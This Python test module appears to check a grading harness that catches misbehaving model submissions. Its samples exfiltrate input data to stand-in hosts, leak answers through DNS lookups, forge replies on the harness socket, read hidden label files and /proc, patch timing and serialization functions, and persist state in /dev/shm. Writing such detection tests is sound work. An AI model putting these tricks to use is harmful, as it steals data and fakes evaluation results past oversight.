"""Zips that reach for what they may not have: the network, their own folder, labels, the next run.

The address is one of TEST-NET-1, which nobody has.
"""

from submissions.making import MODEL, RETURN, bad, good, predicting

CONNECT = "socket.create_connection(('192.0.2.1', 9), timeout=2)"
WRITE_TO_THE_HARNESS = """\
import io, json, os, stat
file = io.BytesIO()
np.save(file, np.zeros(len(X), int))
reply = {reply}
for number in range(3, 1024):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            os.write(number, reply)
    except OSError:
        pass
"""


@bad(
    "ENV04",
    file="model.py",
    line=6,
    says=r"Tried to reach 192\.0\.2\.1.* in model\(path\); there is no internet \(model\.py, line 6\)",
    remedy="Put the file into the zip",
)
def fetches_weights(path):
    fetch = "import urllib.request; urllib.request.urlopen('http://192.0.2.1:9/weights.h5')"
    return good(path, model__py=MODEL.replace("self.path = path", fetch))


@bad(
    "ENV04",
    file="model.py",
    line=2,
    says=r"Tried to reach .*pip install --no-index gdown.* in the import of model\.py",
    remedy="Put the file into the zip",
)
def installs_a_library(path):
    install = """\
import subprocess, sys
subprocess.check_call([sys.executable, '-m', 'pip', 'install', '--no-index', 'gdown'])
"""
    return good(path, model__py=install + MODEL)


@bad(
    "ENV07",
    file="model.py",
    line=10,
    says=r"Wrote to cache\.npy in predict\(X\), which is read-only here \(model\.py, line 10\)",
    remedy=r"tempfile\.gettempdir",
)
def writes_into_its_folder(path):
    return predicting(path, "import os\nnp.save(os.path.join(self.path, 'cache.npy'), X)\n" + RETURN)


@bad(
    "ENV07",
    file="model.py",
    line=6,
    says=r"Wrote to \S*/\.cache in model\(path\), which is read-only here",
    remedy=r"tempfile\.gettempdir",
)
def writes_into_the_home_folder(path):
    make = "import os; os.makedirs(os.path.expanduser('~/.cache/weights'))"
    return good(path, model__py=MODEL.replace("self.path = path", make))


@bad(
    "SEC01",
    says="In phase predict something else than the answer was written to the harness",
    remedy="Return the answers from predict",
)
def answers_by_itself(path):
    """It finds the harness's socket among its descriptors and writes a whole reply there."""
    reply = (
        "json.dumps({'status': 'ok', 'payload': len(file.getvalue())}).encode() + b'\\n' + file.getvalue()"
    )
    return predicting(path, WRITE_TO_THE_HARNESS.format(reply=reply) + RETURN)


@bad(
    "SEC02",
    file="model.py",
    line=10,
    says=r"Tried to open /reference/labels\.npy, which is out of its reach \(model\.py, line 10\)",
    remedy="nothing but X",
)
def opens_the_labels(path):
    return predicting(
        path, "try:\n    np.load('/reference/labels.npy')\nexcept OSError:\n    pass\n" + RETURN
    )


@bad(
    "SEC02",
    file="model.py",
    line=7,
    says=r"Tried to open /app/input/ref/y_test\.npy, which is out of its reach \(model\.py, line 7\)",
    remedy="nothing but X",
)
def opens_the_labels_before_anything_is_asked(path):
    look = "try:\n            open('/app/input/ref/y_test.npy')\n        except OSError:\n            pass"
    return good(path, model__py=MODEL.replace("self.path = path", look))


@bad(
    "SEC02",
    file="model.py",
    line=11,
    says=r"Tried to open /proc/1/(environ|cmdline)",
    remedy="nothing but X",
)
def looks_at_its_parent(path):
    body = "import os\ntry:\n    open('/proc/1/cmdline').read()\nexcept OSError:\n    pass\n"
    return predicting(path, body + RETURN)


@bad("SEC04", says=r"Patched numpy\.save, json\.dumps \(ignored\)", remedy="Leave the functions and objects")
def patches_the_libraries(path):
    """A warning, and the score is that of the answers."""
    patch = "import json\nnp.save = lambda *_, **__: None\njson.dumps = lambda *_, **__: '{}'\n"
    return predicting(path, patch + RETURN)


@bad(
    "SEC04",
    file="model.py",
    line=9,
    says=r"model\.py line 9: gc\.get_objects looks into what other code holds\. \(And 2 more like it\.\)",
    remedy="Leave the functions and objects",
)
def looks_for_the_labels_in_the_harness(path):
    """A warning: the harness that it is in has none."""
    body = "import gc, sys; held = gc.get_objects()\nfrom gc import get_referrers\nframe = sys._getframe(1)\n"
    return predicting(path, body + RETURN)


@bad(
    "SEC04",
    says=r"Patched time\.time, time\.sleep, time\.monotonic \(ignored\)",
    remedy="Leave the functions and objects",
)
def stops_the_clock(path):
    """Whoever measured in its process would find that it takes no time."""
    return predicting(
        path, "import time\ntime.time = time.monotonic = lambda: 0.0\ntime.sleep = abs\n" + RETURN
    )


@bad(
    "SEC08",
    file="model.py",
    line=11,
    says=r"Tried to send to 192\.0\.2\.1:9 in predict \(model\.py, line 11\)",
    remedy="Remove everything that uses the network",
)
def sends_the_images_home(path):
    body = f"import socket\ntry:\n    {CONNECT}.sendall(X.tobytes())\nexcept OSError:\n    pass\n"
    return predicting(path, body + RETURN)


@bad(
    "SEC08",
    file="model.py",
    line=11,
    says=r"Tried to send to home\.example:80 in predict \(model\.py, line 11\)",
    remedy="Remove everything that uses the network",
)
def posts_the_images_to_a_name(path):
    """The name is not even found, but what would have followed is clear."""
    post = "urllib.request.urlopen('http://home.example/', data=np.asarray(X).tobytes(), timeout=2)"
    return predicting(path, f"import urllib.request\ntry:\n    {post}\nexcept OSError:\n    pass\n" + RETURN)


@bad(
    "SEC08",
    file="model.py",
    line=12,
    says=r"Looked up more than 3 names in predict, first x0\.example \(model\.py, line 12\)",
    remedy="Remove everything that uses the network",
)
def tells_the_answers_by_the_names_it_looks_up(path):
    ask = "socket.gethostbyname(f'x{int(answer)}.example')"
    body = f"""\
import socket
for answer in range(4):
    try:
        {ask}
    except OSError:
        pass
"""
    return predicting(path, body + RETURN)


@bad("SEC10", says=r"Left /dev/shm/seen behind", remedy="Keep nothing outside")
def remembers_for_the_next_run(path):
    return predicting(path, "open('/dev/shm/seen', 'a').write('once more')\n" + RETURN)


@bad("SEC10", says=r"Left /dev/shm/images behind", remedy="Keep nothing outside")
def keeps_shared_memory(path):
    """It has a name of its own, by which any later process finds it."""
    body = "import ctypes, os\nflags = os.O_CREAT | os.O_RDWR\n"
    return predicting(path, body + "ctypes.CDLL('librt.so.1').shm_open(b'/images', flags, 0o600)\n" + RETURN)
